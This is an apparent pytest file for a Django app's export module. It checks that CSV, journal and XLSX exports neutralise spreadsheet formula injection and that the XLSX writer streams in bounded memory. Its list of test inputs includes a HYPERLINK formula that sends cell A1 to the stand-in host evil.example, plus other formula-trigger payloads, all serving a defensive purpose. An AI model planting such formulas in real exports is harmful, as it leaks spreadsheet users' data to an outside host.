"""Issue 15, fault 3: no exported cell runs as a formula in a spreadsheet (core/exports.py),
in every export — the expenses' CSV and journal, the client book's CSV and XLSX; and issue 18:
the XLSX writer streams, in bounded memory."""

import csv
import io
import random
import re
import tracemalloc
import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from portico.core.exports import PIECE, csv_writer, neutralise, xlsx_chunks
from portico.expenses import actions
from tests.factories import ExpenseFactory

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
    "+34 600 000 000",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_starting_with_a_formula_trigger_is_quoted(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Cafetería Núñez", "Cafetería Núñez"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (Decimal("-12.50"), Decimal("-12.50")),  # numbers stay numbers, negative ones too
        (-3, -3),
        (1.5, 1.5),
        (date(2026, 11, 3), "2026-11-03"),
        (True, "True"),
    ],
)
def test_other_cells_are_written_as_they_are(value, expected):
    assert neutralise(value) == expected


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out, delimiter=";").writerows([["=1+1", Decimal("-1.5"), "ok"]])
    assert out.getvalue() == "'=1+1;-1.5;ok\r\n"


def _ready(personas, merchant, note):
    return ExpenseFactory(
        account=personas.account, merchant=merchant, note=note, state="ready", category="meals"
    )


@pytest.mark.django_db
@pytest.mark.parametrize("format", ["csv", "journal"])
def test_expense_exports_neutralise_merchants_and_notes(client_for, personas, format):
    for attack in ATTACKS:
        _ready(personas, merchant=attack, note="@note")
    _ready(personas, merchant="", note="-5 descuento")
    export = actions.export_expenses(member=personas.owner, account=personas.account, format=format)
    response = client_for(personas.owner).get(reverse("expenses:export_download", args=[export.pk]))
    assert response.status_code == 200
    body = b"".join(response.streaming_content if response.streaming else [response.content])
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))[1:]
    assert len(rows) == (len(ATTACKS) + 1) * (2 if format == "journal" else 1)
    text_cells = [cell for row in rows for cell in row if cell and not _number(cell)]
    assert text_cells and all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for cell in text_cells
    )
    amounts = [row[2] for row in rows] if format == "csv" else [row[4] or row[5] for row in rows]
    assert all(_number(amount) for amount in amounts)


def _number(cell):
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def test_every_export_writes_through_core_exports():
    """No module but core/exports.py writes CSV or spreadsheets itself (ARCHITECTURE.md)."""
    root = Path(__file__).resolve().parent.parent / "portico"
    writers = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter|tablib")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "exports.py" or path.parent.name != "core"
        if "migrations" not in path.parts and writers.search(path.read_text())
    ]
    assert offenders == []


# --- XLSX (issue 18): streamed, bounded, and a workbook spreadsheets open --------------------


def _workbook_rows(data, read_only=True):
    """The sheet's rows as openpyxl reads them, each padded to 4 cells (a read-only sheet
    leaves out a row's empty cells at its end)."""
    sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=read_only).worksheets[0]
    return [(*row, *[None] * (4 - len(row))) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("read_only", [True, False])
def test_the_xlsx_keeps_types_and_neutralises_text(read_only):
    rows = [
        ["Nombre", "Importe", "Fecha", "Nota"],
        ["=HYPERLINK(1)", Decimal("-12.50"), date(2026, 11, 3), "  a < b & c  "],
        ["Cafetería\x01 Núñez", 7, None, ""],
        ["\x0b@SUM(1+1)", 1.5, datetime(2026, 11, 3, 9, 30), "línea 1\nlínea 2"],
    ]
    data = b"".join(xlsx_chunks(rows, title="pagos: 2026/11"))
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
    book = openpyxl.load_workbook(io.BytesIO(data), read_only=read_only)
    assert book.sheetnames == ["pagos  2026 11"]
    assert _workbook_rows(data, read_only) == [
        ("Nombre", "Importe", "Fecha", "Nota"),
        ("'=HYPERLINK(1)", -12.5, datetime(2026, 11, 3), "  a < b & c  "),
        ("Cafetería Núñez", 7, None, None),  # a control character XML cannot carry is dropped
        ("'@SUM(1+1)", 1.5, "2026-11-03T09:30:00", "línea 1\nlínea 2"),
    ]


def _rows_read(count, read):
    """`count` rows of hard-to-compress text, counting in read[0] how many were read."""
    rng = random.Random(18)
    for n in range(count):
        read[0] = n + 1
        yield [n, *(f"{rng.getrandbits(64):016x}" for _ in range(4))]


def test_the_xlsx_is_sent_as_its_rows_are_read():
    """The workbook's head goes before the first row is read, and most of the file before the
    last: a writer that builds the whole file first (openpyxl's save) fails this."""
    read, sent_before_last = [0], 0
    chunks = xlsx_chunks(_rows_read(5000, read))
    first = next(chunks)
    assert first and read == [0]
    total = len(first)
    for chunk in chunks:
        if read[0] < 5000:
            sent_before_last = total + len(chunk)
        total += len(chunk)
    assert sent_before_last > 0.8 * total


def _written(rows):
    """(bytes of the workbook of `rows` rows, the most memory Python held meanwhile)."""
    tracemalloc.start()
    try:
        total = sum(len(chunk) for chunk in xlsx_chunks(_rows_read(rows, [0])))
        return total, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_the_xlsx_writer_holds_a_piece_not_the_file():
    """Ten times the rows, ten times the file, and the same memory (within a few pieces)."""
    small_file, small_peak = _written(4000)
    large_file, large_peak = _written(40_000)
    assert large_file > 9 * small_file > 2_000_000
    assert large_peak < small_peak + 4 * PIECE
